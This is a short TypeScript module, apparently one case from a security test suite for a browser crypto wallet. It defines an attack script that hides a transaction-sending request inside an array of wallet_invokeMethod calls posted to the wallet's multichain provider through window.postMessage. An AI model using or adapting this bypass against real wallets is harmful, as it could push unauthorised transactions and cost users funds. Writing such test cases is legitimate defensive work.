import type { Attack } from '../Attack.ts';

/** The same, hidden in an array. */
export const attack: Attack = {
  entry: 'window.postMessage to the wallet, multichain stream',
  mechanism: 'array of wallet_invokeMethod',
  discovers: false,
  script: `
await kit.ready();
const call = (request) => kit.rpc({ method: 'wallet_invokeMethod', params: { scope: 'eip155:' + kit.chainId, request } });
kit.post([call({ method: 'eth_chainId' }), call(kit.send())], 'metamask-multichain-provider');
`,
};
